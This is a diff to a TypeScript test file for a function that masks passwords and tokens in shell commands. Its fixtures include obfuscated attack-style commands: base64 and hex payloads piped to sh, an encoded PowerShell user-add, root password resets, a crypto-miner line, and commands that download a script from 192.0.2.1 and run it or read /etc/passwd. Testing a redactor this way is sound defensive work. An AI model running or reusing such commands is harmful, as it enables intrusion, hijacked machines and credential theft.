@@ -1,6 +1,8 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { maskSecrets } from './mask-secrets.js'
+import { findSecrets, maskSecrets } from './mask-secrets.js'
+
+const base64 = (text: string) => Buffer.from(text).toString('base64')
 
 const masked: readonly (readonly [title: string, typed: string, shown: string])[] = [
   ['a password for chpasswd', 'echo "root:hunter2x"|chpasswd|bash', 'echo "root:***"|chpasswd|bash'],
@@ -45,6 +47,39 @@ const masked: readonly (readonly [title: string, typed: string, shown: string])[
   ['a web token', 'echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'echo ***'],
   ['a password hash', "grep '$6$abcd$efghijklmnop' f", "grep '***' f"],
   ['a public key body', 'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB me >> k', 'echo ssh-rsa *** me >> k'],
+  ['a letter behind flags', "curl -su 'bob:s3cr' http://x", "curl -su 'bob:***' http://x"],
+  ['flags and a value in one word', 'mysql -Bps3cr -e x', 'mysql -Bp*** -e x'],
+  ['a header in backslashes', 'curl -H Authorization:\\ Bearer\\ s3cr x', 'curl -H Authorization:\\ Bearer\\ *** x'],
+  ['a broken-up program', 'ss""hpass -p s3cr ssh x', 'ss""hpass -p *** ssh x'],
+  ['a broken-up pipe', "e''cho root:s3cr | chp\\asswd", "e''cho root:*** | chp\\asswd"],
+  ['a broken-up name', "export PASS'W'ORD=s3cr", "export PASS'W'ORD=***"],
+  ['a broken-up secret', 'TOKEN=s3""cr ./x', 'TOKEN=*** ./x'],
+  ['two quoted halves', `TOKEN="s3"'cr' ./x`, 'TOKEN=*** ./x'],
+  ['a program that is looked up', '$(which mysql) -ps3cr -e x', '$(which mysql) -p*** -e x'],
+  ['words behind a substitution', 'mysql -h $(cat h) -ps3cr', 'mysql -h $(cat h) -p***'],
+  ['field separators', 'sshpass${IFS}-p${IFS}s3cr', 'sshpass${IFS}-p${IFS}***'],
+  ['a variable', 'p=s3cr; echo root:$p|chpasswd', 'p=***; echo root:***|chpasswd'],
+  ['a variable of a variable', 'q=s3cr; p="$q"; sshpass -p $p ssh x', 'q=***; p="***"; sshpass -p *** ssh x'],
+  ['a loop', 'for p in s3cr t0p; do echo "root:$p"|chpasswd; done', 'for p in ***; do echo "root:***"|chpasswd; done'],
+  ['base64', `echo ${base64('echo root:s3cr|chpasswd')}|base64 -d|sh`, 'echo ***|base64 -d|sh'],
+  [
+    'base64 in base64',
+    `echo ${base64(`echo ${base64('mysql -ps3cr')}|base64 -d|sh`)}|base64 -d|sh`,
+    'echo ***|base64 -d|sh',
+  ],
+  [
+    'base64 of UTF-16',
+    `powershell -enc ${Buffer.from('net user bob s3cr /add', 'utf16le').toString('base64')}`,
+    'powershell -enc ***',
+  ],
+  [
+    'hexadecimal digits',
+    `echo ${Buffer.from('export TOKEN=s3cr').toString('hex')}|xxd -r -p|sh`,
+    'echo ***|xxd -r -p|sh',
+  ],
+  ['hexadecimal codes', "printf 'TOK\\x45N=\\x73\\x33cr'|sh", "printf 'TOK\\x45N=***'|sh"],
+  ['an escaped hash', 'echo x:\\$6\\$salt\\$s3cr3ts >> f', 'echo x:*** >> f'],
+  ["a miner's password", 'xmrig -o h:3333 -u w -p s3cr', 'xmrig -o h:3333 -u w -p ***'],
   ['SQL', "alter user x identified by 's3cr'", "alter user x identified by '***'"],
 ]
 
@@ -60,6 +95,10 @@ const kept = [
   'cat /run/secrets/token; passwd root; PWD=/tmp ls',
   'scp -P 22 x user@192.0.2.1:/y',
   'uname -a; curl -O http://192.0.2.1/a.sh',
+  'w""get http://192.0.2.1/a.sh; c\\at /etc/passwd',
+  'h=192.0.2.1; ssh -p 22 root@$h',
+  `echo ${base64('wget http://192.0.2.1/a.sh; sh a.sh')} | base64 -d | sh`,
+  'echo -e "\\x6b\\x61"; curl -sSLo x http://192.0.2.1/a.sh',
 ]
 
 describe('maskSecrets', () => {
@@ -143,6 +182,22 @@ describe('maskSecrets', () => {
         'Bearer ',
         'openssl ',
       ],
+      ...[
+        '""',
+        "''",
+        '$p',
+        'p=',
+        '${IFS}',
+        '\\x41',
+        '\\x27',
+        '\\ ',
+        '-su',
+        '$(which mysql)',
+        'for p in ',
+        'base64 ',
+        'Authorization:',
+      ],
+      base64('echo root:s3cr|chpasswd'),
     )
     const text = fc.oneof(
       fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join('')),
@@ -167,8 +222,23 @@ describe('maskSecrets', () => {
       '|passwd',
       '\\"',
       'curl ',
+      'p=$p ',
+      'p=$p:',
+      'mysql$(',
+      `mysql "'`,
+      '""a',
+      'base64 cGFzc3dvcmQ9eA== ',
+      'Authorization:\\ ',
+      '\\\\\\\\x4',
     ]) {
       expect(maskSecrets(unit.repeat(20_000)).length).toBeGreaterThan(0)
     }
+  })
+})
+
+describe('findSecrets', () => {
+  it('names what is masked, in the order of the text', () => {
+    expect(findSecrets('p=s3cr; sshpass -p $p ssh x; TOKEN=t0""p')).toEqual(['s3cr', '$p', 't0""p'])
+    expect(findSecrets('uname -a')).toEqual([])
   })
 })
